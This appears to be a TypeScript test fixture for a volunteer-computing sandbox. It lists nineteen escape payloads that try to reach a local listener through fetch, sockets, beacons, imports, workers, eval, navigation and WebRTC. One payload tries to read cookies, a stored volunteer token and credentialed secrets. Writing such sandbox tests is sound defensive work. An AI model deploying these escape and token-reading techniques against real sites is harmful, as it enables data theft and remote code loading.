// Work-code payloads that try to get out of the sandbox, as one classic-script source so the
// very same text runs inside the sandbox and, as the positive control, outside it.
// Each payload tags its traffic with its own name, so a listener can tell who reached it.

export interface AttackTarget {
  /** http://127.0.0.1:TCP/ (the listener) */
  http: string;
  /** ws://127.0.0.1:TCP/ */
  ws: string;
  udpPort: number;
  /** The app origin (its cookies and storage hold the secrets). */
  app: string;
}

export const attackNames = [
  "fetch-cors",
  "fetch-no-cors",
  "fetch-relative",
  "xhr",
  "websocket",
  "eventsource",
  "beacon",
  "webtransport",
  "import-absolute",
  "import-relative",
  "importScripts",
  "worker-url",
  "nested-blob-worker",
  "function-fetch",
  "eval-fetch",
  "secrets",
  "navigate",
  "window-open",
  "webrtc",
] as const;

export type AttackName = (typeof attackNames)[number];

/** Defines `globalThis.ccRunAttack(name, target)`, which resolves to "completed: …" or "failed: …" within ~2 s. */
export const attackSource = String.raw`
globalThis.ccAttacks = {
  "fetch-cors": (t) => fetch(t.http + "fetch-cors").then((r) => r.text()),
  "fetch-no-cors": (t) => fetch(t.http + "fetch-no-cors", { mode: "no-cors" }).then((r) => r.type),
  "fetch-relative": async () => {
    const out = [];
    for (const url of ["/fetch-relative", "fetch-relative", location.origin + "/fetch-relative"]) {
      try { out.push((await fetch(url)).status); } catch (err) { out.push(String(err)); }
    }
    return out;
  },
  xhr: (t) => { const xhr = new XMLHttpRequest(); xhr.open("GET", t.http + "xhr", false); xhr.send(); return xhr.status; },
  websocket: (t) => new Promise((resolve, reject) => {
    const socket = new WebSocket(t.ws + "websocket");
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new Error("websocket error"));
  }),
  eventsource: (t) => new Promise((resolve, reject) => {
    const source = new EventSource(t.http + "eventsource");
    source.onopen = () => { source.close(); resolve("open"); };
    source.onerror = () => { source.close(); reject(new Error("eventsource error")); };
  }),
  beacon: (t) => navigator.sendBeacon(t.http + "beacon", "data"),
  webtransport: async (t) => {
    const transport = new WebTransport("https://127.0.0.1:" + t.udpPort + "/webtransport");
    await transport.ready;
    return "ready";
  },
  "import-absolute": (t) => import(t.http + "import-absolute.js").then(() => "imported"),
  "import-relative": async () => {
    const out = [];
    for (const url of ["/import-relative.js", location.origin + "/import-relative.js"]) {
      try { await import(url); out.push("imported"); } catch (err) { out.push(String(err)); }
    }
    return out;
  },
  importScripts: (t) => importScripts(t.http + "importScripts.js"),
  "worker-url": () => new Promise((resolve, reject) => {
    const worker = new Worker(location.origin + "/worker.js");
    worker.onerror = () => reject(new Error("worker error"));
    setTimeout(() => resolve("started"), 500);
  }),
  "nested-blob-worker": (t) => new Promise((resolve) => {
    const source = "fetch(" + JSON.stringify(t.http + "nested-blob-worker") + ").then(() => postMessage('reached'), (err) => postMessage(String(err)))";
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
    worker.onmessage = (event) => resolve(event.data);
  }),
  "function-fetch": (t) => new Function("url", "return fetch(url).then((r) => r.text())")(t.http + "function-fetch"),
  "eval-fetch": (t) => (0, eval)("fetch(" + JSON.stringify(t.http + "eval-fetch") + ").then((r) => r.text())"),
  secrets: async (t) => {
    const found = {};
    const tryRead = (name, read) => { try { found[name] = read(); } catch (err) { found[name] = "failed: " + err.name; } };
    tryRead("cookie", () => document.cookie);
    tryRead("localStorage", () => localStorage.getItem("crowdcompute.volunteer.token"));
    tryRead("parentCookie", () => parent.document.cookie);
    tryRead("topStorage", () => top.localStorage.getItem("crowdcompute.volunteer.token"));
    try { found.viaFetch = await (await fetch(t.app + "/secrets", { credentials: "include" })).text(); } catch (err) { found.viaFetch = "failed"; }
    return found;
  },
  navigate: (t) => { location.href = t.http + "navigate"; return "assigned"; },
  "window-open": (t) => String(Boolean(open(t.http + "window-open"))),
  webrtc: async (t) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + t.udpPort }] });
    peer.createDataChannel("escape");
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1000));
    peer.close();
    return "gathered";
  },
};
globalThis.ccRunAttack = async (name, target) => {
  try {
    const value = await Promise.race([
      Promise.resolve().then(() => globalThis.ccAttacks[name](target)),
      new Promise((_, reject) => setTimeout(() => reject(new Error("no answer within 2 s")), 2000)),
    ]);
    return "completed: " + JSON.stringify(value ?? null);
  } catch (err) {
    return "failed: " + String((err && err.message) || err);
  }
};
`;
